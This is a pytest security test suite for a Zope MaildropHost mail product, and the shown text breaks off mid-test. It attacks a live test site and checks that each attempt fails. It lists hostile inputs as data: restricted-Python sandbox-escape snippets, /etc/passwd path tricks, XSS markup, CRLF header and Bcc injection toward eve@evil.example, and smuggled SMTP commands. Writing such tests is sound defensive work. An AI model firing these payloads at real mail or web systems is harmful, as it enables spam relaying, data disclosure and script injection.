"""Attacks on the Zope side, each tried on a real Zope over WSGI; what got into the spool goes through the real daemon.

The attackers: an anonymous visitor of public pages; a user who has nothing but "Use mailhost services"; a page elsewhere
that tricks a Manager's browser into a GET; somebody who may write Scripts, DTML and page templates, without further
permissions; and who controls what gets into log, configuration or file names.
"""

import json
import os
import pickle
import re
import traceback
import urllib.parse
import xmlrpc.client
from contextlib import contextmanager
from email import message_from_bytes, policy
from html.parser import HTMLParser
from pathlib import Path

import pytest
from support.attacked_site import Site
from support.config_file import write_config
from support.daemon import MaildropDaemon
from support.relay_server import RelayServer
from support.spooling import MODULE, files_in, make_host, read_mails

from maildrop import settings as maildrop_settings

PASSWORD = "Geheim<b>&'+.*(x)[y]{2}"
SECRETS = [PASSWORD, PASSWORD.replace("<", "&lt;").replace("&'", "&amp;'"), "Geheim"]
LOG_TEXT = "OK\t ann@example.org\tconfidential-log-entry\n"
TOLD_TO_NOBODY = ["Geheim", "confidential-log-entry", "relay-login", "root:x:0"]
MARKUP = "\"'><xss onx=1></textarea></title><script>xss()</script>"
NAME_WITH_MARKUP = "'><xss onx=1>"  # a file name: no slash

_SEND_TEMPLATE = """host = context.MailHost
def mail(*names):
    return host.sendTemplate(*names, mto="eve@evil.example", mfrom="eve@evil.example")
return mail"""

SCRIPTS = {
    "reads the log": "return context.MailHost.getLog()",
    "reads the config path": "return context.MailHost.getConfigPath()",
    "reads the attribute config_path": "return context.MailHost.config_path",
    "reads the choices": "return context.MailHost.getCandidateConfigPaths()",
    "reads what is wrong with the config": "return context.MailHost.getConfigProblem()",
    "reads the login": "return context.MailHost.login",
    "reads the password": "return context.MailHost.password",
    "reads the spool's path": "return context.MailHost.spool",
    "reads the log file's path": "return context.MailHost.maildrop_log_file",
    "reads the debug receiver": "return context.MailHost.debug_receiver",
    "reads the queue's length": "return context.MailHost.queueLength()",
    "reads settings by getattr": "return getattr(context.MailHost, 'login')",
    "reads settings as items": "return context.MailHost['login']",
    "reads settings by a format string": "return '{0.login}'.format(context.MailHost)",
    "reads the class by a format string": "return '{0.__class__.getLog}'.format(context.MailHost)",
    "reads settings by a format map": "return '%(login)s' % context.MailHost",
    "reads settings by unrestrictedTraverse": "return context.unrestrictedTraverse('MailHost/login')",
    "reads settings by restrictedTraverse": "return context.restrictedTraverse('MailHost/login')",
    "reads the log by restrictedTraverse": "return context.restrictedTraverse('MailHost/getLog')()",
    "renders the log page": "return context.MailHost.manage_log()",
    "renders the edit page": "return context.MailHost.manage_main()",
    "mails the log page to himself": _SEND_TEMPLATE + "(host, 'manage_log')",
    "mails the edit page as a status": _SEND_TEMPLATE + "(context, 'a_template', 'manage_main')",
    "adds a choice through sendTemplate": _SEND_TEMPLATE + "(host, 'addConfigPath')",
    "makes changes through sendTemplate": _SEND_TEMPLATE + "(host, 'manage_makeChanges')",
    "calls a private method through sendTemplate": _SEND_TEMPLATE + "(host, '_load_config')",
    "sets the config path by key": "return context.MailHost.setConfigPath('DEFAULT')",
    "sets the config path to a path": "return context.MailHost.setConfigPath('/etc/passwd')",
    "assigns the attribute config_path": "context.MailHost.config_path = '/etc/passwd'",
    "assigns the title": "context.MailHost.title = 'taken'",
    "assigns by setattr": "setattr(context.MailHost, 'config_path', '/etc/passwd')",
    "deletes an attribute": "del context.MailHost.config_path",
    "adds a choice of config": "context.MailHost.addConfigPath('x', '/etc/passwd')",
    "makes changes": "return context.MailHost.manage_makeChanges('taken')",
    "starts the queue thread": "return context.MailHost.manage_restartQueueThread('start')",
    "adds a MaildropHost": "context.manage_addProduct['MaildropHost'].manage_addMaildropHost('Taken')",
    "copies the object": "return context.manage_copyObjects(['MailHost'])",
    "exports the object": "return context.manage_exportObject('MailHost')",
    "deletes the object": "context.manage_delObjects(['MailHost'])",
    "renames the object": "context.manage_renameObject('MailHost', 'Gone')",
    "calls _send": "context.MailHost._send('a@example.org', 'b@example.org', 'x')",
    "calls _settings": "return context.MailHost._settings()",
    "calls _load_config": "context.MailHost._load_config()",
    "reads __dict__": "return context.MailHost.__dict__",
    "reads __class__": "return context.MailHost.__class__",
    "calls __setstate__": "context.MailHost.__setstate__({})",
    "calls __init__": "context.MailHost.__init__()",
    "reaches the module through a method's globals": "return context.MailHost.send.__globals__",
    "reaches the function of a method": "return context.MailHost.send.im_func",
    "reaches a generator's frame": "return (x for x in [1]).gi_frame",
    "imports Email": "from Products.MaildropHost.MaildropHost import Email\nEmail('a@b', 'c@d', 'x', '/x').send()",
    "imports TransactionalEmail": "from Products.MaildropHost.MaildropHost import TransactionalEmail as T\nreturn T",
    "imports CONFIG_PATHS": "from Products.MaildropHost.MaildropHost import CONFIG_PATHS as C\nC['x'] = '/etc/passwd'",
    "imports the class from the package": "from Products.MaildropHost import MaildropHost as M\nreturn M('x').getLog()",
    "imports the daemon's settings": "from maildrop.settings import load\nreturn load('/etc/passwd')",
    "imports the daemon's spool": "import maildrop.spool\nreturn maildrop.spool",
    "reads through a second object by acquisition": "return context.MailHost.Hostile.getLog()",
    "wraps the object to lose its context": "return context.MailHost.aq_base.getLog()",
    "asks for all the log there can be": "return context.MailHost.getLog(10 ** 30)",
}

CONTENT = '''
import json
import sys
import transaction
from OFS.DTMLMethod import addDTMLMethod
from OFS.Folder import manage_addFolder
from Products.MaildropHost import manage_addMaildropHost
from Products.PageTemplates.ZopePageTemplate import manage_addPageTemplate
from Products.PythonScripts.PythonScript import manage_addPythonScript
from support.attacked_pages import AttackedPages

app._addRole("Mailer")
app.acl_users.userFolderAddUser("mailer", sys.argv[-2], ["Mailer"], [])
app.manage_permission("Use mailhost services", ["Manager", "Mailer"], acquire=0)
manage_addMaildropHost(app, "MailHost", title="Test")
app.MailHost.setConfigPath("config-path-1")
manage_addMaildropHost(app, "Hostile", title=sys.argv[-3])
app.Hostile.setConfigPath("config-path-2")
app._setObject("attacked", AttackedPages())
manage_addFolder(app, "folder")

def script(name, body, params=""):
    manage_addPythonScript(app, name)
    app[name].ZPythonScript_edit(params, body)

for number, body in enumerate(json.loads(sys.argv[-1])):
    script(f"attack{number}", body)
script("harmless", "context.MailHost.send('Text', mto='ann@example.org', mfrom='zoe@example.org')\\nreturn 'sent'")
script("mails_template", """return context.MailHost.sendTemplate(
    context, "a_template", mto="ann@example.org", mfrom="zoe@example.org")""")
script("chooses", "context.MailHost.setConfigPath(key)\\nreturn 'chosen'", "key")
script("adds_choice", "context.MailHost.addConfigPath(key, path)\\nreturn 'added'", "key, path")
script("reads_log", "return len(context.MailHost.getLog(most))", "most=50000")
script("body_is_typed", """context.MailHost.send(
    context.REQUEST.get('text'), mto='ann@example.org', mfrom='zoe@example.org', subject='Hi')
return 'sent'""")
app.body_is_typed.manage_proxy(["Manager"])
manage_addPageTemplate(app, "a_template", text="To: <b>x</b>")
manage_addPageTemplate(app, "by_template", text="<p tal:content='here/MailHost/getLog'>x</p>")
manage_addPageTemplate(app, "by_template_expression", text="<p tal:content='python: here.MailHost.login'>x</p>")
for name, text in {
    "by_dtml_var": "<dtml-var \\"MailHost.getLog()\\">",
    "by_dtml_with": "<dtml-with MailHost><dtml-var login></dtml-with>",
    "by_dtml_name": "<dtml-with MailHost><dtml-var getLog></dtml-with>",
    "by_dtml_in": "<dtml-in \\"MailHost.getCandidateConfigPaths()\\"><dtml-var sequence-item></dtml-in>",
    "by_dtml_call": "<dtml-call \\"MailHost.setConfigPath('DEFAULT')\\">",
}.items():
    addDTMLMethod(app, name, file=text)
addDTMLMethod(app, "by_dtml", file="""<dtml-sendmail mailhost="MailHost">
To: <dtml-var to>
From: <dtml-var sender>
Subject: <dtml-var subject>

<dtml-var text>
</dtml-sendmail>sent""")
addDTMLMethod(app, "fails", file="<dtml-var \\"MailHost.setConfigPath('no such')\\">")
transaction.commit()
'''


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    directory = tmp_path_factory.mktemp("attacked")
    daemon = MaildropDaemon(
        directory,
        1,
        MAILDROP_LOGIN="relay-login",
        MAILDROP_PASSWORD=PASSWORD,
        DEBUG_RECEIVER="",
        MAILDROP_AUTH_CLEAR=1,
        MAILDROP_FSYNC=0,
    )
    home = directory / NAME_WITH_MARKUP
    hostile = write_config(
        home / "config",
        MAILDROP_HOME=home,
        SMTP_HOST="'><xss/onx=1>",
        MAILDROP_LOGIN=NAME_WITH_MARKUP,
        MAILDROP_PASSWORD=PASSWORD,
        DEBUG_RECEIVER="<script>xss()</script>",
    )
    site = Site(directory / "site", extra_path=(Path(__file__).parents[1],))
    site.create({"config-path-1": daemon.config, "config-path-2": hostile})
    site.run_script(CONTENT, MARKUP, "mailer-password", json.dumps(list(SCRIPTS.values())))
    site.start()
    site.daemon, site.spool, site.log, site.home, site.hostile = daemon, daemon.spool, daemon.log_file, home, hostile
    for log in (site.log, home / "var" / "maildrop.log"):
        log.parent.mkdir(parents=True, exist_ok=True)
        log.write_text(LOG_TEXT)
    site.type_into("adds_choice", "admin", key=MARKUP, path=str(hostile))  # zope.conf does not take such a key
    yield site
    site.stop()


@pytest.fixture(autouse=True)
def nothing_is_changed(request):
    """Whatever is tried leaves all objects, their settings and the choices as they were, and an empty spool at its begin."""
    if "site" not in request.fixturenames:
        yield
        return
    site = request.getfixturevalue("site")
    for name in files_in(site.spool):
        (site.spool / name).unlink()
    before = site.state()
    yield
    assert site.state() == before


def nothing_told(text):
    return [secret for secret in TOLD_TO_NOBODY if secret in text] == []


USERS = [pytest.param(None, id="by an anonymous visitor"), pytest.param("mailer", id="by one who may send")]


# -- reading and changing --


@pytest.mark.parametrize("user", USERS)
@pytest.mark.parametrize("number", range(len(SCRIPTS)), ids=list(SCRIPTS))
def test_a_script_without_the_permission_gets_nothing(site, number, user):
    status, _, text = site.ask("GET", f"/attack{number}", user=user)
    assert status in (401, 403, 404, 500), text
    assert nothing_told(text)
    assert files_in(site.spool) == []


def test_the_scripts_are_run_at_all(site):
    assert site.ask("GET", "/harmless", user="mailer")[::2] == (200, "sent")
    assert site.ask("GET", "/mails_template", user="mailer")[::2] == (200, "SEND OK")
    assert len(read_mails(site.spool)) == 2
    number = list(SCRIPTS).index("reads the log")
    assert site.ask("GET", f"/attack{number}", user="admin")[2] == LOG_TEXT


@pytest.mark.parametrize("user", USERS)
@pytest.mark.parametrize(
    "page",
    [
        "by_template",
        "by_template_expression",
        "by_dtml_var",
        "by_dtml_with",
        "by_dtml_name",
        "by_dtml_in",
        "by_dtml_call",
    ],
)
def test_neither_templates_nor_dtml_without_the_permission_get_anything(site, page, user):
    status, _, text = site.ask("GET", f"/{page}", user=user)
    assert status in (401, 403, 404, 500), text
    assert nothing_told(text)


NAMES = sorted(
    {*dir(MODULE.MaildropHost), *vars(MODULE), "config_path", "title", "id", "REQUEST", "aq_parent", "aq_base"}
)
PREFIXES = ["/MailHost", "/folder/MailHost", "/Hostile/MailHost", "/manage_addProduct/MaildropHost"]
ARGUMENTS = (
    "?path_key=DEFAULT&path=/etc/passwd&title=taken&id=Taken&action=start&max_bytes=9&messageText=x&mto=a@b&mfrom=c@d"
)


@pytest.mark.parametrize("user", USERS)
@pytest.mark.parametrize("method", ["GET", "POST"])
@pytest.mark.parametrize(
    "prefix", PREFIXES, ids=["at the object", "acquired in a folder", "through another one", "at the product"]
)
def test_no_name_of_object_or_module_gives_or_changes_anything_by_url(site, prefix, method, user):
    answered = []
    for name in NAMES:
        status, _, text = site.ask(method, f"{prefix}/{name}{ARGUMENTS}", user=user)
        assert nothing_told(text), name
        assert str(site.daemon.config) not in text, name
        answered += [name] if status == 200 and text and name not in PUBLIC else []
    assert answered == []
    assert files_in(site.spool) == []


# What Zope itself shows of any object, and nothing of it speaks of mail
PUBLIC = {
    "getId",
    "title_and_id",
    "title_or_id",
    "absolute_url",
    "absolute_url_path",
    "virtual_url_path",
    "getPhysicalPath",
    "objectIds",
    "objectValues",
    "objectItems",
    "tpURL",
    "tpId",
    "MailHost",
    "aq_parent",
    "this",
    "manage_tabs",
    "validRoles",
    "valid_roles",
    "zope_copyright",
    "tpValues",
    "getParentNode",
    "wl_isLocked",
    "hasProperty",
}


def test_a_link_that_a_manager_follows_changes_nothing(site):
    for name in NAMES:
        site.ask("GET", f"/MailHost/{name}{ARGUMENTS}", user="admin")
        site.ask("GET", f"/manage_addProduct/MaildropHost/{name}{ARGUMENTS}", user="admin")
    assert files_in(site.spool) == []


def test_a_manager_deletes_by_webdav_all_the_same(site):
    site.type_into("manage_addProduct/MaildropHost/manage_addMaildropHost", "admin", id="Short")
    assert "Short" in site.state()["objects"]
    assert site.ask("GET", "/Short/DELETE", user="admin")[0] == 403
    assert site.ask("DELETE", "/Short", user="admin")[0] == 204


def test_adding_by_a_link_that_a_manager_follows_is_forbidden(site):
    status, _, _ = site.ask("GET", "/manage_addProduct/MaildropHost/manage_addMaildropHost?id=Taken", user="admin")
    assert status == 403


@pytest.mark.parametrize("user", USERS)
def test_adding_needs_the_permission(site, user):
    assert site.type_into("manage_addProduct/MaildropHost/manage_addMaildropHost", user, id="Taken")[0] == 401
    assert site.ask("GET", "/manage_addProduct/MaildropHost/addMaildropHostForm", user=user)[0] == 401


@pytest.mark.parametrize("user", USERS)
@pytest.mark.parametrize(
    "method",
    ["PROPFIND", "PROPPATCH", "PUT", "DELETE", "LOCK", "UNLOCK", "MKCOL", "COPY", "MOVE", "OPTIONS", "TRACE", "HEAD"],
)
def test_webdav_neither_tells_nor_changes(site, method, user):
    body = '<?xml version="1.0"?><propfind xmlns="DAV:"><allprop/></propfind>'
    headers = {"Depth": "infinity", "Destination": f"{site.url}/Copied", "Content_Type": "text/xml"}
    for path in ("/MailHost", "/MailHost/spool", "/MailHost/config_path", "/MailHost/new"):
        _, _, text = site.ask(method, path, body, user, **headers)
        assert nothing_told(text)


@pytest.mark.parametrize("user", USERS)
@pytest.mark.parametrize(
    "call",
    [
        ("getLog",),
        ("setConfigPath", "DEFAULT"),
        ("addConfigPath", "x", "/etc/passwd"),
        ("manage_makeChanges", "taken"),
        ("send", "x", "a@b", "c@d"),
        ("_send", "a@b", "c@d", "x"),
        ("getCandidateConfigPaths",),
        ("config_path",),
    ],
    ids=lambda call: call[0],
)
def test_xml_rpc_neither_tells_nor_changes(site, call, user):
    body = xmlrpc.client.dumps(call[1:], call[0])
    _, _, text = site.ask("POST", "/MailHost", body, user, Content_Type="text/xml")
    assert "<methodResponse>" not in text or "<fault>" in text
    assert nothing_told(text)
    assert files_in(site.spool) == []


# -- the key of a config file --


@pytest.mark.parametrize(
    "fields",
    [
        {"path_key": "/etc/passwd"},
        {"path_key": "../config"},
        {"path_key": ""},
        {"path_key": "DEFAULT\0"},
        {"path_key": "ＤＥＦＡＵＬＴ"},
        {"path_key:list": ["DEFAULT"]},
        {"path_key:tuple": ["DEFAULT"]},
        {"path_key:int": "1"},
        {"path_key:bytes": "DEFAULT"},
        {"path_key.x:record": "DEFAULT"},
        {"path_key.x:records": "DEFAULT"},
        {"path_key:lines": "DEFAULT"},
        {"path_key:boolean": "1"},
    ],
    ids=[
        "a path",
        "a relative path",
        "nothing",
        "a NUL behind it",
        "wide letters",
        "a list",
        "a tuple",
        "a number",
        "bytes",
        "a record",
        "records",
        "lines",
        "a boolean",
    ],
)
def test_nothing_but_a_key_chooses_a_config_file(site, fields):
    status, _, text = site.type_into("MailHost/manage_makeChanges", "admin", title="Taken", **fields)
    assert status == 200
    assert "Nothing was changed" in text
    status, _, text = site.type_into(
        "chooses", "admin", **{name.replace("path_key", "key"): v for name, v in fields.items()}
    )
    assert status == 500, text


def test_an_uploaded_file_is_no_key(site):
    body = (
        '--b\r\nContent-Disposition: form-data; name="title"\r\n\r\nTaken\r\n'
        '--b\r\nContent-Disposition: form-data; name="path_key"; filename="DEFAULT"\r\n\r\nDEFAULT\r\n--b--\r\n'
    )
    headers = {"Content_Type": "multipart/form-data; boundary=b"}
    status, _, text = site.ask("POST", "/MailHost/manage_makeChanges", body, "admin", **headers)
    assert (status, "Nothing was changed" in text) == (200, True)


@pytest.mark.parametrize(
    "fields",
    [{"key:list": "x", "path": "/x"}, {"key:int": "1", "path": "/x"}, {"key": "x", "path:list": "/x"}],
    ids=["a list", "a number", "a list as the path"],
)
def test_no_choice_is_added_that_would_spoil_the_list_of_choices(site, fields):
    assert site.type_into("adds_choice", "admin", **fields)[0] == 500
    assert site.ask("GET", "/MailHost/manage_main", user="admin")[0] == 200


# -- quoting --


class Page(HTMLParser):
    """Whether something that came as text has become an element or an attribute."""

    def __init__(self, text):
        super().__init__()
        self.injected = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attributes):
        names = [name for name, _ in attributes]
        if tag == "xss" or "onx" in names:
            self.injected.append(self.get_starttag_text())
        self._in_script = tag == "script"

    def handle_data(self, data):
        if getattr(self, "_in_script", False) and "xss" in data:
            self.injected.append(data)


def assert_quoted(reply, shown="xss"):
    _, headers, text = reply
    assert shown in text
    kind = headers.get("Content-Type", "text/plain")
    assert kind.startswith("text/plain") or Page(text).injected == []


def test_the_check_for_quoting_finds_what_is_not_quoted():
    for text in (
        f"<p>{MARKUP}</p>",
        f'<input value="{MARKUP}">',
        f"<input value='{NAME_WITH_MARKUP}'>",
        "<a onx=2>",
        "<xss>",
    ):
        assert Page(text).injected


@pytest.mark.parametrize("page", ["manage_main", "manage_log", "manage_workspace", "manage_access", "manage_owner"])
def test_title_paths_and_settings_with_markup_are_quoted(site, page):
    log = site.home / "var" / "maildrop.log"
    log.write_text(f"FATAL: 550 5.1.1 {MARKUP}\t {MARKUP}@example.org\tNAME kept as failed/{NAME_WITH_MARKUP}\n")
    reply = site.ask("GET", f"/Hostile/{page}", user="admin")
    if reply[0] == 302:
        reply = site.ask("GET", "/Hostile/manage_main", user="admin")
    assert reply[0] == 200
    assert_quoted(reply)
    log.write_text(LOG_TEXT)


def test_the_choices_with_markup_in_key_and_path_are_quoted(site):
    reply = site.ask("GET", "/MailHost/manage_main", user="admin")
    assert_quoted(reply, "&lt;xss onx=1&gt;&lt;/textarea&gt;")


@pytest.mark.parametrize(
    "line",
    [
        'SMTP_PORT="<xss onx=1><script>xss()</script>"',
        'SMTP_HOST="<xss onx=1> x"',
        "<xss onx=1></p>",
        "XSS_</p><xss/onx=1>=1",
    ],
    ids=["a value", "a host", "a line", "a key"],
)
def test_what_is_wrong_with_a_config_file_is_quoted(site, line):
    with replaced(site.hostile, lambda path: path.write_text(path.with_name("aside").read_text() + f"\n{line}\n")):
        reply = site.ask("GET", "/Hostile/manage_main", user="admin")
        assert "cannot be used" in reply[2]
        assert_quoted(reply)


@pytest.mark.parametrize(
    "name", ["getLog", "getConfigPath", "getConfigProblem", "getCandidateConfigPaths", "queueLength", "spool"]
)
def test_text_is_not_shown_by_url_where_it_would_be_taken_for_html(site, name):
    log = site.home / "var" / "maildrop.log"
    log.write_text(f"FATAL: {MARKUP}\n")
    reply = site.ask("GET", f"/Hostile/{name}", user="admin")
    log.write_text(LOG_TEXT)
    assert_quoted(reply, "")


@pytest.mark.parametrize(
    "path",
    [
        "/MailHost/manage_main?manage_tabs_message=",
        "/MailHost/manage_log?manage_tabs_message=",
        "/MailHost/manage_main?manage_tabs_type=",
        "/manage_addProduct/MaildropHost/addMaildropHostForm?id=",
    ],
)
def test_what_stands_in_a_link_is_quoted(site, path):
    reply = site.ask("GET", path + urllib.parse.quote(MARKUP), user="admin")
    assert reply[0] == 200
    assert_quoted(reply, "")


def test_a_wrong_choice_with_markup_is_quoted(site):
    reply = site.type_into("MailHost/manage_makeChanges", "admin", title="x", path_key=f"no {MARKUP}")
    assert "Nothing was changed" in reply[2]
    assert_quoted(reply)


def test_a_title_with_markup_is_quoted_where_it_was_just_typed(site):
    fields = {"title": MARKUP, "transactional:boolean": "1"}
    assert_quoted(site.type_into("MailHost/manage_makeChanges", "admin", **fields))
    site.type_into("MailHost/manage_makeChanges", "admin", **{**fields, "title": "Test"})


@pytest.mark.parametrize("page", ["chooses", "attacked/contact", "by_dtml"])
def test_an_error_with_markup_is_quoted(site, page):
    fields = {
        "key": f"no {MARKUP}",
        "subject": f"{MARKUP}\nx",
        "mto": "ann@example.org",
        "to": f"{MARKUP}\nx",
        "sender": "",
        "text": "",
    }
    reply = site.type_into(page, "admin", **fields)
    assert reply[0] == 500
    assert_quoted(reply, "")


def test_an_id_with_markup_is_no_id(site):
    reply = site.type_into("manage_addProduct/MaildropHost/manage_addMaildropHost", "admin", id="<xss onx=1>")
    assert reply[0] == 400
    assert_quoted(reply, "")


def test_an_id_that_leads_elsewhere_is_no_id(site):
    status, headers, _ = site.type_into(
        "manage_addProduct/MaildropHost/manage_addMaildropHost", "admin", id="x\r\nSet-Cookie: a=b"
    )
    assert status == 400 and "Set-Cookie" not in headers


# -- header fields and recipients --


EXPECTED_FIELDS = ["content-transfer-encoding", "content-type", "date", "from", "mime-version", "subject", "to"]


def mails_are_honest(site, recipients=("ann@example.org",)):
    """Each mail in the spool has just these recipients, and no header field more than MailHost makes."""
    for sender, found, message in read_mails(site.spool):
        assert sender == "zoe@example.org"
        assert found == recipients, found
        header = re.split(rb"\r?\n\r?\n", message, maxsplit=1)[0]
        assert not re.search(rb"[\x00\x0b\x0c\x1c-\x1e]|\r(?!\n)", header)
        names = [line.partition(b":")[0].lower().decode() for line in header.splitlines() if line[:1] not in b" \t"]
        assert len(set(names)) == len(names)
        assert set(names) <= set(EXPECTED_FIELDS), header
        for policy_ in (policy.compat32, policy.default):  # two readers that differ
            assert not message_from_bytes(message, policy=policy_)["Bcc"]


BREAKS = {
    "CR LF": "\r\n",
    "LF": "\n",
    "CR": "\r",
    "LF CR": "\n\r",
    "NUL": "\0",
    "vertical tab": "\x0b",
    "form feed": "\x0c",
    "file separator": "\x1c",
    "group separator": "\x1d",
    "record separator": "\x1e",
    "next line": "\x85",
    "line separator": "\u2028",
    "paragraph separator": "\u2029",
    "two line ends": "\r\n\r\n",
    "a blank line of blanks": "\r\n \r\n",
}
FIELDS = [
    "Bcc: eve@evil.example",
    "Bcc : eve@evil.example",
    "##To:eve@evil.example",
    "Content-Type: text/html\r\n\r\n<b>",
]


@pytest.mark.parametrize("line_break", BREAKS.values(), ids=BREAKS.keys())
@pytest.mark.parametrize(
    ("page", "field", "honest"),
    [
        ("attacked/contact", "subject", "Hi"),
        ("attacked/contact", "mto", "ann@example.org"),
        ("attacked/contact", "mto:list", "ann@example.org"),
        ("attacked/contact", "mfrom", "zoe@example.org"),
        ("attacked/contact", "charset", "utf-8"),
        ("attacked/contact", "msg_type", "text/plain"),
        ("attacked/contact", "encode", "base64"),
        ("attacked/composed", "to", "ann@example.org"),
        ("attacked/composed", "sender", "zoe@example.org"),
        ("attacked/composed", "subject", "Hi"),
        ("attacked/simple", "mto", "ann@example.org"),
        ("attacked/simple", "mfrom", "zoe@example.org"),
        ("attacked/simple", "subject", "Hi"),
        ("attacked/attached", "subject", "Hi"),
        ("attacked/attached", "name", "a.txt"),
        ("by_dtml", "to", "ann@example.org"),
        ("by_dtml", "sender", "zoe@example.org"),
        ("by_dtml", "subject", "Hi"),
    ],
    ids=lambda value: value if "@" not in value else "-",
)
def test_a_line_break_in_a_field_makes_no_header_field_and_no_recipient(site, page, field, honest, line_break):
    fields = (
        {"to": "ann@example.org", "sender": "zoe@example.org", "subject": "Hi", "text": "Hello"}
        if page == "by_dtml"
        else {}
    )
    for smuggled in FIELDS:
        status, _, text = site.type_into(page, **{**fields, field: f"{honest}{line_break}{smuggled}"})
        assert status in (200, 500), text
        assert status == 200 or files_in(site.spool) == [], smuggled
        mails_are_honest(site)
        for name in files_in(site.spool):
            (site.spool / name).unlink()


@pytest.mark.parametrize(
    "page", ["attacked/contact", "attacked/composed", "attacked/simple", "attacked/attached", "by_dtml"]
)
def test_the_pages_send_what_is_typed_honestly(site, page):
    fields = {"to": "ann@example.org", "sender": "zoe@example.org", "subject": "Hi: \u20ac", "text": "Dear\r\nAnn: hi"}
    if page == "attacked/simple":
        fields = {"body": fields["text"], "subject": "Hi"}
    fields["charset"] = "utf-8"
    status, _, text = site.type_into(page, **fields)
    assert (status, text.strip()) == (200, "sent")
    assert len(read_mails(site.spool)) == 1
    mails_are_honest(site)


@pytest.mark.parametrize(
    "text",
    [
        "Bcc: eve@evil.example\r\n\r\nx",
        "To: eve@evil.example\r\nSubject: x\r\n\r\nx",
        "Content-Type: text/html\r\n\r\n<b>",
        "Reply-To: eve@evil.example",
        "##To:eve@evil.example\r\n##From:x@y\r\n\r\nx",
        "##Content:\r\nBcc: eve@evil.example\r\n\r\n",
        "From eve\r\nBcc: eve@evil.example\r\n\r\nx",
        " Bcc: x\r\nBcc: eve@evil.example\r\n\r\nx",
        "\r\nBcc: eve@evil.example\r\n\r\nx",
        "Sender: x\rBcc: eve@evil.example\r\rx",
        "",
    ],
    ids=[
        "a Bcc",
        "other recipients",
        "another type",
        "a Reply-To",
        "an envelope",
        "an end of the envelope",
        "a From line",
        "a continuation",
        "a blank line first",
        "bare CR",
        "nothing",
    ],
)
@pytest.mark.parametrize("page", ["attacked/contact", "body_is_typed"])
def test_a_typed_text_has_no_header_fields_whatever_it_looks_like(site, page, text):
    assert site.type_into(page, text=text)[::2] == (200, "sent")
    assert len(read_mails(site.spool)) == 1
    mails_are_honest(site)
    ((_, _, message),) = read_mails(site.spool)
    assert (
        message.partition(b"\r\n\r\n")[2].replace(b"\r\n", b"\n").strip()
        == re.sub("\r\n?", "\n", text).encode().strip()
    )


SMUGGLERS = {
    "another one behind a comma": "ann@example.org, eve@evil.example",
    "another one behind a semicolon": "ann@example.org; eve@evil.example",
    "another one behind a line end": "ann@example.org\n,eve@evil.example",
    "another one in angle brackets": "ann@example.org,<eve@evil.example>",
    "a group": "friends: ann@example.org, eve@evil.example;",
    "a name that is a list": "ann@example.org, eve@evil.example <ann@example.org>",
    "an unclosed quote": '"ann@example.org',
    "an unclosed comment": "ann@example.org (",
    "an unclosed bracket": "<ann@example.org",
    "an unclosed literal": "ann@[",
    "a closing quote of another one": '", <ann@example.org>',
    "two in angle brackets": "<ann@example.org> <eve@evil.example>",
    "SMTP behind an angle bracket": "ann@example.org> NOTIFY=NEVER",
    "a command behind a line end": "ann@example.org>\r\nRCPT TO:<eve@evil.example",
    "a NUL": "ann@example.org\0,eve@evil.example",
    "a blank": "ann@example.org eve@evil.example",
}


@pytest.mark.parametrize("visitor", SMUGGLERS.values(), ids=SMUGGLERS.keys())
def test_an_entry_of_a_list_adds_and_hides_no_other_recipient(site, visitor):
    status, _, _ = site.type_into("attacked/copied", visitor=visitor)
    if status != 200:
        assert status == 500 and files_in(site.spool) == []
    mails_are_honest(site, ("ann@example.org", "bob@example.org"))


@pytest.mark.parametrize(
    ("visitor", "address"),
    [
        ('"bob@example.org, eve@evil.example" <jo@example.org>', "jo@example.org"),
        ('"eve@evil.example" <jo@example.org>', "jo@example.org"),
        ("jo@example.org (, eve@evil.example)", "jo@example.org"),
        ("<@evil.example:jo@example.org>", "jo@example.org"),
        ("eve%evil.example@example.org", "eve%evil.example@example.org"),
        ('"jo,eve"@example.org', '"jo,eve"@example.org'),
        ("friends: jo@example.org;", "jo@example.org"),
        ("jo@example.org\r\n", "jo@example.org"),
    ],
    ids=[
        "a quoted name with a comma",
        "a quoted name that is an address",
        "a comment with a comma",
        "a source route",
        "a percent sign",
        "a quoted comma in the address",
        "a group of one",
        "a line end behind it",
    ],
)
def test_an_entry_of_a_list_is_one_recipient_whatever_it_holds(site, visitor, address):
    assert site.type_into("attacked/copied", visitor=visitor)[::2] == (200, "sent")
    mails_are_honest(site, ("ann@example.org", address, "bob@example.org"))


def test_a_str_is_a_list_as_with_mailhost(site):
    site.type_into("attacked/contact", mto="ann@example.org, eve@evil.example")
    mails_are_honest(site, ("ann@example.org", "eve@evil.example"))
    assert len(read_mails(site.spool)) == 1


HOSTILE_SENDERS = {
    "parameters": "zoe@example.org> SIZE=1",
    "a command": "zoe@example.org>\r\nRCPT TO:<eve@evil.example",
    "blanks": "zoe example.org",
    "an unclosed bracket": "<zoe@example.org",
    "two brackets": "<zoe@example.org> <eve@evil.example>",
    "a NUL": "zoe\0@example.org",
    "a name alone": "Zoe",
    "very long": "z" * 100_000 + "@example.org",
    "a lone surrogate": "zoe\udc80@example.org",
}


@pytest.mark.parametrize("sender", HOSTILE_SENDERS.values(), ids=HOSTILE_SENDERS.keys())
def test_a_sender_is_one_address_or_an_error(site, sender):
    status, _, _ = site.type_into("attacked/contact", mfrom=sender)
    if sender == "Zoe":
        assert status == 200  # an account of the relay's own
        return
    assert status == 500
    assert files_in(site.spool) == []


@pytest.mark.parametrize(
    "mto",
    ["", "()", "<>", "x" * 100_000 + "@example.org", "ann\udc80@example.org", "ann@ex\u00e4mple.org\0", "\u2028"],
    ids=ascii,
)
def test_a_mail_without_a_usable_recipient_is_an_error(site, mto):
    assert site.type_into("attacked/contact", mto=mto)[0] == 500
    assert files_in(site.spool) == []


# -- on the wire --


SMUGGLED = "MAIL FROM:<eve@evil.example>{0}RCPT TO:<eve@evil.example>{0}DATA{0}Subject: smuggled{0}{0}x{0}.{0}"
ENDS = {
    "dot with LF": "\n.\n",
    "dot with CR": "\r.\r",
    "LF dot CR LF": "\n.\r\n",
    "CR LF dot CR LF": "\r\n.\r\n",
    "CR dot LF": "\r.\n",
    "CR LF dot LF": "\r\n.\n",
    "NUL dot": "\r\n\0.\r\n",
    "CR CR LF": "\r\r\n.\r\r\n",
}


def test_everything_that_is_accepted_reaches_the_relay_as_one_mail_with_its_own_recipients(site):
    sent = 0
    for end in ENDS.values():
        text = f"Hello{end}{SMUGGLED.format(end.replace('.', '') or end)}"
        for page in ("attacked/contact", "body_is_typed"):
            assert site.type_into(page, text=text)[0] == 200
            sent += 1
    for visitor in SMUGGLERS.values():
        sent += site.type_into("attacked/copied", visitor=visitor)[0] == 200
